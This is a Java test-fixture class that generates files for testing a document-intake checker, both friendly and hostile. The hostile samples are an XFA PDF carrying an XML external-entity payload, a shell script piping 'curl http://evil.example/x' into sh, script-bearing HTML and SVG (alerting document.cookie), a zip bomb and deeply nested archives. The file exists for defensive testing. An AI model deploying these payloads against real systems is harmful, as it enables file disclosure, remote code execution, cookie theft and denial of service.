package io.motcua.app.documents;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDXFAResource;

/**
 * Files generated at test time, friendly and hostile, for the intake checks.
 */
public final class TestCorpus {

	private TestCorpus() {
	}

	/** A one-page PDF with the given (ASCII) text. */
	public static byte[] pdf(String text) {
		try (PDDocument document = new PDDocument()) {
			PDPage page = new PDPage();
			document.addPage(page);
			try (PDPageContentStream stream = new PDPageContentStream(document, page)) {
				stream.beginText();
				stream.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
				stream.newLineAtOffset(72, 700);
				stream.showText(text);
				stream.endText();
			}
			return save(document);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** A PDF protected with a user password. */
	public static byte[] encryptedPdf() {
		try (PDDocument document = new PDDocument()) {
			document.addPage(new PDPage());
			StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", "user-secret",
					new AccessPermission());
			policy.setEncryptionKeyLength(128);
			document.protect(policy);
			return save(document);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** The first half of a PDF. */
	public static byte[] truncatedPdf() {
		byte[] pdf = pdf("this document was cut off in transit");
		return Arrays.copyOf(pdf, pdf.length / 2);
	}

	/**
	 * A PDF whose XFA form declares an external entity pointing at {@code target} (a file
	 * URL) and uses it in a field.
	 */
	public static byte[] xfaPdfWithExternalEntity(String target) {
		String xfa = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + "<!DOCTYPE xdp:xdp [<!ENTITY xxe SYSTEM \""
				+ target + "\">]>\n" + "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">"
				+ "<template xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\"><subform name=\"form1\">"
				+ "<field name=\"applicant\"><caption><value><text>Applicant &xxe;</text></value></caption></field>"
				+ "</subform></template>"
				+ "<xfa:datasets xmlns:xfa=\"http://www.xfa.org/schema/xfa-data/1.0/\"><xfa:data><form1>"
				+ "<applicant>&xxe;</applicant></form1></xfa:data></xfa:datasets></xdp:xdp>";
		try (PDDocument document = new PDDocument()) {
			PDPage page = new PDPage();
			document.addPage(page);
			try (PDPageContentStream stream = new PDPageContentStream(document, page)) {
				stream.beginText();
				stream.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
				stream.newLineAtOffset(72, 700);
				stream.showText("XFA form");
				stream.endText();
			}
			PDAcroForm form = new PDAcroForm(document);
			document.getDocumentCatalog().setAcroForm(form);
			COSStream stream = document.getDocument().createCOSStream();
			try (var out = stream.createOutputStream()) {
				out.write(xfa.getBytes(StandardCharsets.UTF_8));
			}
			form.setXFA(new PDXFAResource(stream));
			return save(document);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	public static byte[] jpeg() {
		return image("jpg");
	}

	public static byte[] png() {
		return image("png");
	}

	private static byte[] image(String format) {
		BufferedImage image = new BufferedImage(64, 48, BufferedImage.TYPE_INT_RGB);
		Graphics2D graphics = image.createGraphics();
		graphics.setColor(Color.ORANGE);
		graphics.fillRect(8, 8, 40, 30);
		graphics.dispose();
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try {
			ImageIO.write(image, format, out);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	/** A minimal Word document with the given text. */
	public static byte[] docx(String text) {
		return zip(new String[][] {
				{ "[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
						+ "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
						+ "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
						+ "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
						+ "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
						+ "</Types>" },
				{ "_rels/.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
						+ "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
						+ "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
						+ "</Relationships>" },
				{ "word/document.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
						+ "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
						+ "<w:body><w:p><w:r><w:t>" + text + "</w:t></w:r></w:p></w:body></w:document>" } });
	}

	/** A Windows executable header (MZ, PE32). */
	public static byte[] windowsExecutable() {
		ByteBuffer buffer = ByteBuffer.allocate(1024).order(ByteOrder.LITTLE_ENDIAN);
		buffer.put((byte) 'M').put((byte) 'Z');
		buffer.putInt(0x3c, 0x80);
		buffer.position(0x80);
		buffer.put("PE\0\0".getBytes(StandardCharsets.ISO_8859_1));
		buffer.putShort((short) 0x014c); // i386
		buffer.putShort((short) 1);
		buffer.position(0x80 + 24);
		buffer.putShort((short) 0x10b); // PE32 optional header
		return buffer.array();
	}

	/** A Linux executable header (ELF). */
	public static byte[] elfExecutable() {
		byte[] bytes = new byte[512];
		byte[] header = { 0x7f, 'E', 'L', 'F', 2, 1, 1, 0 };
		System.arraycopy(header, 0, bytes, 0, header.length);
		bytes[16] = 2; // ET_EXEC
		bytes[18] = 0x3e; // x86-64
		return bytes;
	}

	public static byte[] shellScript() {
		return "#!/bin/sh\ncurl http://evil.example/x | sh\n".getBytes(StandardCharsets.US_ASCII);
	}

	public static byte[] htmlWithScript() {
		return "<!DOCTYPE html>\n<html><head><title>Don</title></head><body><script>fetch('/api/v1/dossiers')</script></body></html>"
			.getBytes(StandardCharsets.UTF_8);
	}

	public static byte[] svgWithScript() {
		return ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
				+ "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">"
				+ "<script type=\"text/javascript\">alert(document.cookie)</script></svg>")
			.getBytes(StandardCharsets.UTF_8);
	}

	/** A zip whose one entry inflates to {@code megabytes} MB of zeros. */
	public static byte[] zipBomb(int megabytes) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			zip.setLevel(9);
			zip.putNextEntry(new ZipEntry("zeros.pdf"));
			byte[] zeros = new byte[1024 * 1024];
			for (int i = 0; i < megabytes; i++) {
				zip.write(zeros);
			}
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	/** A zip in a zip in a zip ... {@code depth} levels deep. */
	public static byte[] nestedArchive(int depth) {
		byte[] inner = pdf("innermost");
		for (int i = 0; i < depth; i++) {
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			try (ZipOutputStream zip = new ZipOutputStream(out)) {
				zip.putNextEntry(new ZipEntry("level" + i + ((i == 0) ? ".pdf" : ".zip")));
				zip.write(inner);
				zip.closeEntry();
			}
			catch (IOException ex) {
				throw new UncheckedIOException(ex);
			}
			inner = out.toByteArray();
		}
		return inner;
	}

	private static byte[] zip(String[][] entries) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			for (String[] entry : entries) {
				zip.putNextEntry(new ZipEntry(entry[0]));
				zip.write(entry[1].getBytes(StandardCharsets.UTF_8));
				zip.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	private static byte[] save(PDDocument document) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		document.save(out);
		return out.toByteArray();
	}

}
